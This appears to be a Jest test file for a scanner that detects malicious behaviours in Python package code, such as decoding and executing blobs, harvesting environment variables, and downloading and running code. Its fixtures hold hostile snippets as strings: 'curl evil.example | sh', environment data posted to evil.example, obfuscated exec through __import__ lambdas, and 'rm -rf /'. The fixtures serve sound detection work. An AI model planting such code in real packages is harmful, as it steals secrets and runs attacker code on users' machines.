import { describe, expect, it } from '@jest/globals'
import { pythonBehaviours } from '../../src/analysis/python-code.js'

const found = (text: string) =>
  pythonBehaviours('pkg/__init__.py', text).map(b => [b.line, b.behaviour, b.call, b.level])

describe('Python behaviours, read with a real parser', () => {
  it('finds decode-and-execute, network, processes and environment harvesting, through aliases', () => {
    const code = [
      'import base64, zlib',
      'import subprocess as sp',
      'from os import system, environ',
      'import urllib.request',
      'exec(base64.b64decode("cHJpbnQoMSk="))',
      'payload = zlib.decompress(blob)',
      'eval(payload)',
      "sp.Popen(['sh', '-c', 'curl evil.example | sh'])",
      'urllib.request.urlopen("https://evil.example", data=dict(environ))',
      'def later():',
      '    system("id")',
      'import marshal',
      'marshal.loads(b"\\xe3\\x00")',
      'if __name__ == "__main__":',
      '    sp.run(["ls"])'
    ].join('\n')
    expect(found(code)).toEqual([
      [5, 'decode-execute', 'exec', 'module'],
      [7, 'decode-execute', 'eval', 'module'],
      [8, 'process', 'subprocess.Popen', 'module'],
      [9, 'environment', 'urllib.request.urlopen', 'module'],
      [11, 'process', 'os.system', 'function'],
      [13, 'decode-execute', 'marshal.loads', 'module'],
      [15, 'process', 'subprocess.run', 'function']
    ])
  })

  it('code under `if … and __name__ == "__main__"` runs as a script, not on import', () => {
    const code =
      'import pty, sys\nif sys.platform != "win32" and __name__ == "__main__":\n    pty.spawn(sys.argv[1:])\n'
    expect(found(code)).toEqual([[3, 'process', 'pty.spawn', 'function']])
  })

  it('comments, docstrings and strings are not code', () => {
    const code = [
      '"""Never call os.system( or exec(b64decode( here."""',
      '# os.system("rm -rf /") and exec(base64.b64decode(x))',
      'HELP = "use subprocess.Popen(...) or requests.get(url)"',
      'def f():',
      '    """exec(b64decode(payload))"""',
      '    return os.environ.get("HOME")',
      'TOKEN = os.environ["TOKEN"]'
    ].join('\n')
    expect(found(code)).toEqual([])
  })

  it('reads one variable of the environment without calling it harvesting', () => {
    expect(found('import os, requests\nrequests.get(url, headers={"a": os.environ["A"]})')).toEqual(
      [[2, 'network', 'requests.get', 'module']]
    )
    expect(
      found('import os, json\nopen("/tmp/x", "w").write(json.dumps(dict(os.environ)))')
    ).toEqual([[2, 'environment', '(…).write', 'module']])
  })
})

describe('names resolved as Python runs them', () => {
  it('finds exec of a lambda that decodes through __import__ (aiocpa 2024, num2words 2025)', () => {
    const code = [
      "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))",
      "exec((_)(b'=Aw3Rm'))",
      "getattr(__builtins__, 'exec')(__import__('base64').b64decode(b'cHJpbnQoMSk='))"
    ].join('\n')
    expect(found(code)).toEqual([
      [2, 'decode-execute', 'exec', 'module'],
      [3, 'decode-execute', 'exec', 'module']
    ])
  })

  it('resolves attributes of by-name imports, also bound to names first', () => {
    const code = [
      'import importlib',
      "run = importlib.import_module('subprocess').Popen",
      "run(['id'])",
      "__import__('os').system('id')",
      "getattr(__import__('os'), 'system')('id')",
      "check = getattr(importlib.import_module('subprocess'), 'check_output')",
      "check(['id'])",
      "__import__('urllib.request').request.urlopen('https://x.example')",
      // Python returns the top package here: `os`, whose `system` runs.
      "__import__('os.path').system('id')",
      "__import__('urllib.request', fromlist=['x']).urlopen('https://x.example')",
      'import builtins, base64',
      "builtins.exec(base64.b64decode('cHJpbnQoMSk='))",
      "getattr(builtins, 'eval')(base64.b64decode('MQ=='))"
    ].join('\n')
    expect(found(code)).toEqual([
      [3, 'process', 'subprocess.Popen', 'module'],
      [4, 'process', 'os.system', 'module'],
      [5, 'process', 'os.system', 'module'],
      [7, 'process', 'subprocess.check_output', 'module'],
      [8, 'network', 'urllib.request.urlopen', 'module'],
      [9, 'process', 'os.system', 'module'],
      [10, 'network', 'urllib.request.urlopen', 'module'],
      [12, 'decode-execute', 'exec', 'module'],
      [13, 'decode-execute', 'eval', 'module']
    ])
  })
})

describe('downloads and runs code: fetch then run in one flow', () => {
  it('names the download that is executed, spawned or written to a file a process runs', () => {
    const code = [
      'import os, requests, subprocess',
      'from urllib.request import urlopen',
      "exec(urlopen('https://x.example/a.py').read())",
      'def from_text(u):',
      '    data = requests.get(u).text',
      '    exec(data)',
      'def to_file(url, folder):',
      '    r = requests.get(url, stream=True)',
      "    target = os.path.join(folder, 'agent')",
      "    with open(target, 'wb') as f:",
      '        for chunk in r.iter_content(1024):',
      '            f.write(chunk)',
      "    subprocess.Popen([target, '-d'])",
      'def piped(u):',
      "    subprocess.run(['sh', '-c', requests.get(u).text])"
    ].join('\n')
    expect(found(code)).toEqual([
      [3, 'download-execute', 'urllib.request.urlopen → exec', 'module'],
      [6, 'download-execute', 'requests.get → exec', 'function'],
      [13, 'download-execute', 'requests.get → subprocess.Popen', 'function'],
      [15, 'download-execute', 'requests.get → subprocess.run', 'function']
    ])
  })

  it('a fetch and an unrelated process in one function, or in two functions, are each what they are', () => {
    const code = [
      'import requests, subprocess',
      'def release(url, path):',
      '    requests.get(url)',
      "    subprocess.run(['git', 'status'])",
      'def fetch(u):',
      '    return requests.get(u).text',
      'def run(script):',
      '    exec(script)'
    ].join('\n')
    expect(found(code)).toEqual([
      [3, 'network', 'requests.get', 'function'],
      [4, 'process', 'subprocess.run', 'function'],
      [6, 'network', 'requests.get', 'function']
    ])
  })

  it('a downloaded file handed to a program that only reads it is no download-and-run', () => {
    const code = [
      'import subprocess, sys',
      'from urllib.request import urlretrieve',
      'def unpack(url, path):',
      '    urlretrieve(url, path)',
      "    subprocess.run(['tar', 'xf', path])",
      'def install(url, path):',
      '    urlretrieve(url, path)',
      '    subprocess.run([sys.executable, path])'
    ].join('\n')
    expect(found(code)).toEqual([
      [4, 'network', 'urllib.request.urlretrieve', 'function'],
      [5, 'process', 'subprocess.run', 'function'],
      [8, 'download-execute', 'urllib.request.urlretrieve → subprocess.run', 'function']
    ])
  })
})
